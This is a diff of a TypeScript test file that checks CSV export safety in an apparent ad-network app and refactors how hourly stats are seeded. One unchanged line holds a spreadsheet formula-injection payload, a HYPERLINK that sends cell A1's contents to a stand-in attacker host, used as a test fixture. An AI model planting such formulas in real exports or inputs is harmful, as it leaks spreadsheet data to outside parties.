@@ -3,10 +3,10 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { toCsv } from '@cryptads/contract/csv';
 import type { Report } from '@cryptads/contract/reports';
 import { campaigns } from '../../db/schema/campaigns';
-import { statsHourly } from '../../db/schema/stats';
 import { websites, zones } from '../../db/schema/websites';
 import { body, loginAs } from '../../testing/helpers';
 import { createTestApp, type TestApp } from '../../testing/test-app';
+import { insertRollups } from './test-helpers';
 
 const ZONE = 'e5e5e5e5e5e5e5e5';
 const HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Get bonus")';
@@ -58,21 +58,23 @@ describe("a publisher's zone alias in an advertiser's CSV export", () => {
         permalink: 'spring-csv',
       })
       .returning();
-    await db.insert(statsHourly).values({
-      hour: new Date(`${today}T00:00:00.000Z`),
-      campaignId: campaign?.id ?? 0,
-      zoneId: zone?.id ?? 0,
-      websiteId,
-      advertiserId: advertiser.user.id,
-      publisherId: publisher.user.id,
-      country: 'DE',
-      os: 'Windows',
-      browser: 'Chrome',
-      impressions: 1000,
-      clicks: 10,
-      costMicros: 500_000n,
-      earningsMicros: 350_000n,
-    });
+    await insertRollups(db, [
+      {
+        hour: new Date(`${today}T00:00:00.000Z`),
+        campaignId: campaign?.id ?? 0,
+        zoneId: zone?.id ?? 0,
+        websiteId,
+        advertiserId: advertiser.user.id,
+        publisherId: publisher.user.id,
+        country: 'DE',
+        os: 'Windows',
+        browser: 'Chrome',
+        impressions: 1000,
+        clicks: 10,
+        costMicros: 500_000n,
+        earningsMicros: 350_000n,
+      },
+    ]);
   });
   afterAll(async () => {
     await app.closeAll();
